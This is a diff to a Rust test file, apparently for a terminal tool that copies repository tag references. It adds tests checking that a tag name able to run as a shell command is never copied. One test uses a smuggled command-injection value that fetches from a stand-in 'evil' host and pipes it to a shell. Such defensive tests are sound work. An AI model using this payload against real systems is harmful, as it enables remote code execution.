@@ -58,6 +58,19 @@ fn a_name_that_could_run_as_a_command_is_not_made_into_one() {
     driver.key(Key::Enter);
     assert_eq!(copied(&driver), None);
     assert!(driver.notice().contains("no valid reference"));
+    driver.type_keys("y");
+    assert_eq!(copied(&driver), None, "a reference is pasted behind a command as well");
+}
+
+#[test]
+fn of_several_names_one_that_could_run_as_a_command_holds_all_back() {
+    let evil = "1;curl${IFS}evil|sh";
+    let mut driver = Driver::new(start(vec![connected("hub")]));
+    driver.open_repository(&["app"], "app", &[evil, "2"]);
+    driver.go(&tag("app", evil));
+    driver.type_keys("  y");
+    assert_eq!(copied(&driver), None);
+    assert!(driver.notice().contains("no valid reference"));
 }
 
 #[test]
